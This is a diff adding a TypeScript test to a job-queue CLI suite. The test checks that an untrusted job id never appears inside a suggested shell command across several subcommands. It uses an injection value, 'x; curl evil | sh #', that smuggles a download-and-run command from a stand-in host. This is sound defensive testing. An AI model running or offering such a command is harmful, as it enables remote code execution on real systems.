@@ -298,3 +298,26 @@ test.for([
   expect(code).toBe(expected);
   expect(err).toContain(message);
 });
+
+test('an id from elsewhere that is not one of a job is in no command, wherever it is shown', async () => {
+  await using jobs = await startJobs();
+  const id = 'x; curl evil | sh #';
+  await sentLongAgo(jobs, id);
+  await unknown(jobs, id);
+  await ledgerOf(jobs).cancel(`failed ${id}`);
+  await jobs.queue.send([JSON.stringify({ ...adds(id), version: 1 })]);
+
+  const shown = [
+    await jobs.run(['work', '--drain']),
+    await jobs.run(['jobs']),
+    await jobs.run(['jobs', id]),
+    await jobs.run(['redrive', id]),
+    await jobs.run(['redrive']),
+    await jobs.run(['redrive', '--json']),
+  ];
+
+  const lineOf = ({ out, err }: { readonly out: string; readonly err: string }) =>
+    `${out}\n${err}`.split('\n');
+  expect(shown.map(({ code }) => code)).toEqual([3, 0, 2, 2, 0, 0]);
+  expect(shown.flatMap(lineOf).filter((line) => /platform-sync [a-z].*curl/.test(line))).toEqual([]);
+});
